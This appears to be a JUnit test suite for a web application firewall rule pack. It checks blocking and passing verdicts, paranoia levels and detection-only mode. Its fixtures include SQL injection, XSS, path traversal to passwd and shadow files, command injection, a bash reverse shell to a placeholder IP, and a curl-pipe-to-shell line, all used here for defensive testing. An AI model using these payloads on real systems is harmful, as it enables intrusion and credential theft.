package dev.rampart.waf;

import static dev.rampart.waf.Requests.get;
import static dev.rampart.waf.Requests.post;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RampartRulePackTest {

    private static final WafRules PL1 = RampartRulePack.load(WafSettings.defaults());
    private static final WafRules PL2 = RampartRulePack.load(WafSettings.defaults().withParanoiaLevel(2));

    private static Verdict inspect(WafRules rules, HttpRequest request) {
        return rules.newTransaction(request).processRequest();
    }

    private static String query(String value) {
        return "/search?q=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "1' OR '1'='1",
            "1 UNION SELECT username, password FROM users--",
            "'; DROP TABLE accounts; --",
            "<script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fshadow",
            "; cat /etc/passwd",
            "| ls -la /root",
            "$(whoami)",
            "x; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"})
    void blocksAttacksInQueryArguments(String payload) {
        Verdict verdict = inspect(PL1, get(query(payload)));
        assertThat(verdict.denied()).as(payload).isTrue();
        assertThat(verdict.interruptedBy()).isEqualTo(7100991);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "{\"name\":\"O'Brien\",\"note\":\"it's Bob's order, don't ship before Monday\"}",
            "{\"prompt\":\"Explain SQL: select name from users where id = 1 or drop the table? union of sets\"}",
            "{\"text\":\"## Steps\\n1. Run `ls -la` in your shell\\n2. Use *emphasis* and <b>bold</b>\"}",
            "{\"q\":\"rock 'n' roll; cats & dogs | birds\",\"tags\":[\"or\",\"and\",\"select\"]}",
            "{\"code\":\"for (let i = 0; i < n; i++) { total += a[i]; }\"}"})
    void passesBenignJson(String body) {
        Transaction tx = PL1.newTransaction(post("/api/items", "application/json", body));
        Verdict verdict = tx.processRequest();
        assertThat(verdict.denied()).as(body).isFalse();
        assertThat(verdict.matches()).as(body).isEmpty();
        // no chain link that matched on its own may have scored (setvar belongs on the last link)
        assertThat(tx.transactionValue("rampart_inbound_score")).as(body).isEqualTo("0");
    }

    @Test
    void blocksAttacksInsideJsonBodies() {
        Verdict verdict = inspect(PL1, post("/api/items", "application/json", "{\"filter\":\"1' OR 1=1 --\"}"));
        assertThat(verdict.denied()).isTrue();
        assertThat(verdict.matchedRuleIds()).contains(7100500);
        assertThat(verdict.matches().get(0).variableNames()).containsExactly("ARGS:json.filter");
    }

    @Test
    void flagsScannerUserAgents() {
        Verdict verdict = inspect(PL1, get("/", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"));
        assertThat(verdict.denied()).isTrue();
        assertThat(verdict.interruptedBy()).isEqualTo(7100990);
        assertThat(verdict.matchedRuleIds()).contains(7100200);
    }

    @Test
    void flagsProtocolAnomalies() {
        HttpRequest twoHosts = HttpRequest.of("GET", "/", List.of(new HttpRequest.Header("Host", "a.example"),
                new HttpRequest.Header("Host", "b.example")));
        assertThat(inspect(PL1, twoHosts).matchedRuleIds()).containsExactly(7100101, 7100990);

        HttpRequest badJson = post("/api/items", "application/json", "{\"a\": ");
        assertThat(inspect(PL1, badJson).matchedRuleIds()).contains(7100106);

        HttpRequest bodyWithoutType = new HttpRequest("POST", "/upload", "HTTP/1.1",
                List.of(new HttpRequest.Header("Host", "a.example"), new HttpRequest.Header("Content-Length", "3")),
                new byte[] {1, 2, 3}, "192.0.2.1", 1);
        Verdict noType = inspect(PL1, bodyWithoutType);
        assertThat(noType.matchedRuleIds()).containsExactly(7100105);
        assertThat(noType.denied()).as("a warning alone stays below the threshold").isFalse();
    }

    @Test
    void paranoiaLevelTwoAddsStricterRules() {
        String install = "{\"note\":\"curl -sSL https://get.example.com/install | sh\"}";
        assertThat(inspect(PL1, post("/api/notes", "application/json", install)).denied()).isFalse();
        Verdict strict = inspect(PL2, post("/api/notes", "application/json", install));
        assertThat(strict.denied()).isTrue();
        assertThat(strict.matchedRuleIds()).contains(7100710);
    }

    @Test
    void detectionOnlyReportsWithoutDenying() {
        WafRules detect = RampartRulePack.load(WafSettings.defaults().withEngineMode(EngineMode.DETECTION_ONLY));
        Verdict verdict = inspect(detect, get(query("<script>alert(1)</script>")));
        assertThat(verdict.denied()).isFalse();
        assertThat(verdict.matchedRuleIds()).contains(7100600, 7100991);
    }

    @Test
    void bodyGivenAfterPhaseOneIsInspected() {
        Transaction tx = PL1.newTransaction(post("/api/items", "application/json", ""));
        assertThat(tx.processRequestHeaders().denied()).isFalse();
        Verdict verdict = tx.processRequestBody("{\"q\":\"<svg onload=alert(1)>\"}".getBytes(StandardCharsets.UTF_8));
        assertThat(verdict.denied()).isTrue();
        assertThat(verdict.matchedRuleIds()).contains(7100600);
    }
}
